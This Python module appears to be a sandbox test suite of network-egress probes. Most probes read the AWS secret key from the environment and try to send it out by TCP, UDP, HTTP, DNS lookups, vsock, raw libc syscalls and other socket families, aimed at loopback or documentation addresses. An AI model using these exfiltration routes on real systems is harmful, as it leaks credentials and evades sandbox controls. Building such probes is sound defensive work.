"""Probes of everything that carries bytes off: a gain here is bytes at a listener of the host, never a success code.

An observing profile answers connect() with success; what it proves is judged by what arrives.
"""

from harness.controls.probes.probe import Probe, trying

_FAMILY = "network"
_SOCKET = ("kernel:socket",)
_MARK = 'os.environ["AWS_SECRET_ACCESS_KEY"].encode()'


def _sending(name: str, statements: str, *, evidence: tuple[str, ...] = _SOCKET, imports: str = "os, socket") -> Probe:
    body = trying(statements, imports=imports, gains=False)
    return Probe(name=name, family=_FAMILY, body=body, evidence=evidence)


def _to(name: str, family: str, kind: str, address: str, protocol: str = "0") -> Probe:
    """Return a probe that sends its token to an address through a socket of its own."""
    return _sending(
        name,
        f"""
with socket.socket({family}, {kind}, {protocol}) as connection:
    connection.connect({address})
    connection.sendall({_MARK})
""",
    )


def _on_pair(name: str, call: str, evidence: str) -> Probe:
    """Return a probe that turns one end of a socket pair to somebody else by a raw call."""
    return Probe(
        name=name,
        family=_FAMILY,
        body=f"""
import ctypes, os, socket, struct
left, right = socket.socketpair()
libc = ctypes.CDLL(None)
token = {_MARK}
internet = struct.pack("=H", 2) + struct.pack(">H", {{port}}) + bytes([127, 0, 0, 1]) + bytes(8)
abstract = struct.pack("=H", 1) + b"\\0{{abstract}}-datagram"
{call}
""",
        evidence=(evidence,),
    )


PROBES: tuple[Probe, ...] = (
    _to("tcp-connect", "socket.AF_INET", "socket.SOCK_STREAM", '("127.0.0.1", {port})'),
    _to("tcp-connect-documentation", "socket.AF_INET", "socket.SOCK_STREAM", '("192.0.2.1", 9)'),
    _sending("tcp-listen", 'socket.create_server(("127.0.0.1", 0)).close()'),
    _sending(
        "tcp-connect-in-thread",
        f"""
import threading
def send():
    try:
        with socket.create_connection(("127.0.0.1", {{port}})) as connection:
            connection.sendall({_MARK})
    except OSError:
        pass
thread = threading.Thread(target=send)
thread.start()
thread.join()
""",
    ),
    _sending(
        "tcp-connect-asyncio",
        f"""
async def send():
    _, writer = await asyncio.open_connection("127.0.0.1", {{port}})
    writer.write({_MARK})
    await writer.drain()
    writer.close()
asyncio.run(asyncio.wait_for(send(), 1))
""",
        imports="asyncio, os",
    ),
    _sending(
        "tcp-http",
        f'urllib.request.urlopen("http://127.0.0.1:{{port}}/" + {_MARK}.decode(), timeout=0.5).read()',
        imports="os, urllib.request",
    ),
    _on_pair("tcp-connect-on-pair", "libc.connect(left.fileno(), internet, len(internet))", "kernel:connect"),
    _on_pair("tcp-bind-on-pair", "libc.bind(left.fileno(), internet, len(internet))", "kernel:bind"),
    _on_pair("tcp-listen-on-pair", "libc.listen(left.fileno(), 1)", "kernel:listen"),
    _on_pair("tcp-accept-on-pair", "left.setblocking(False); libc.accept(left.fileno(), None, None)", "kernel:accept"),
    _on_pair(
        "tcp-fast-open",
        "libc.sendto(left.fileno(), token, len(token), 0x20000000, internet, len(internet))",
        "kernel:sendto",
    ),
    _to("udp-send", "socket.AF_INET", "socket.SOCK_DGRAM", '("127.0.0.1", {port})'),
    _to("icmp-raw", "socket.AF_INET", "socket.SOCK_RAW", '("127.0.0.1", 0)', "socket.IPPROTO_ICMP"),
    _to("icmp-datagram", "socket.AF_INET", "socket.SOCK_DGRAM", '("127.0.0.1", 0)', "socket.IPPROTO_ICMP"),
    _to("sctp-connect", "socket.AF_INET", "socket.SOCK_STREAM", '("127.0.0.1", {port})', "132"),
    _sending("dns-look-up", f'socket.getaddrinfo({_MARK}.decode()[:60] + ".example.invalid", 80)'),
    _to("dns-query", "socket.AF_INET", "socket.SOCK_DGRAM", '("192.0.2.53", 53)'),
    _to("ipv6-connect", "socket.AF_INET6", "socket.SOCK_STREAM", '("::1", {port})'),
    _to("ipv6-datagram", "socket.AF_INET6", "socket.SOCK_DGRAM", '("2001:db8::1", 9)'),
    _to("unix-path", "socket.AF_UNIX", "socket.SOCK_STREAM", '"{path}"'),
    _to("unix-abstract", "socket.AF_UNIX", "socket.SOCK_STREAM", '"\\0{abstract}"'),
    _sending(
        "unix-datagram-pair-to-host",
        f"""
left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
left.sendto({_MARK}, "\\0{{abstract}}-datagram")
""",
        evidence=("kernel:socketpair",),
    ),
    _sending(
        "unix-packet-pair",
        "socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)",
        evidence=("kernel:socketpair",),
    ),
    _on_pair(
        "unix-address-on-pair",
        "libc.sendto(left.fileno(), token, len(token), 0, abstract, len(abstract))",
        "kernel:sendto",
    ),
    _on_pair(
        "unix-address-on-channel", "libc.sendto(3, token, len(token), 0, abstract, len(abstract))", "kernel:sendto"
    ),
    _on_pair("unix-reconnect-channel", "libc.connect(3, abstract, len(abstract))", "kernel:connect"),
    _sending(
        "unix-descriptors-in-flight",
        """
left, right = socket.socketpair()
for _ in range(200):
    socket.send_fds(left, [b"x"], [left.fileno()] * 4)
""",
        evidence=("kernel:sendmsg",),
    ),
    _sending(
        "unix-receive-descriptors",
        """
left, right = socket.socketpair()
left.send(b"x")
socket.recv_fds(right, 1, 1)
""",
        evidence=("kernel:recvmsg",),
    ),
    _sending(
        "unix-out-of-band",
        'left, right = socket.socketpair()\nleft.send(b"x", socket.MSG_OOB)',
        evidence=("kernel:sendto",),
    ),
    _on_pair("socket-filter", "libc.setsockopt(left.fileno(), 1, 26, bytes(16), 16)", "kernel:setsockopt"),
    _on_pair("many-messages", "libc.sendmmsg(3, bytes(64), 1, 0)", "kernel:sendmmsg"),
    _sending("netlink-route", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()"),
    _sending("netlink-audit", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9).close()"),
    _sending("packet-capture", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()"),
    _to("vsock-connect", "socket.AF_VSOCK", "socket.SOCK_STREAM", "(2, 9999)"),
    _sending("kernel-crypto", "socket.socket(38, socket.SOCK_SEQPACKET).close()"),
    _sending("bluetooth", "socket.socket(31, socket.SOCK_RAW, 1).close()"),
)
